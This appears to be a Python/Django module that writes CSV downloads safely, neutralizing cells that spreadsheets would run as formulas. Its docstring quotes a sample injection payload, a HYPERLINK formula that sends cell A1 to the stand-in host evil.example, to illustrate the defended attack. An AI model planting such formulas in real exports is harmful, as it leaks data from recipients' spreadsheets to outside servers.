"""The one CSV writer for every file a person downloads or a command writes for people
to open: cells that a spreadsheet would run as a formula are neutralized.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (OWASP, "CSV Injection"): a carrier label
such as `=HYPERLINK("https://evil.example/?"&A1)` would run on the privacy officer's
machine. Such a cell gets a leading apostrophe, which spreadsheets show as text and
never evaluate. Numbers stay numbers (a negative number is not text).
"""

import csv
from collections.abc import Iterable
from typing import Any

from django.http import HttpResponse
from django.utils.cache import add_never_cache_headers

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralize(value: Any) -> Any:
    """The cell as a spreadsheet should show it: text that would start a formula is
    prefixed with an apostrophe; anything else is written as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class FormulaSafeWriter:
    """csv.writer's interface (writerow, writerows), every cell neutralized."""

    def __init__(self, handle, **options):
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([neutralize(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def formula_safe_writer(handle, **options) -> FormulaSafeWriter:
    """A writer over an open text file (or any object with `write`)."""
    return FormulaSafeWriter(handle, **options)


def csv_download(filename: str) -> tuple[HttpResponse, FormulaSafeWriter]:
    """An attachment response and the writer to fill it; never kept by a cache (a
    download may hold personal data, and its links are shared on staff machines)."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    add_never_cache_headers(response)
    return response, formula_safe_writer(response)
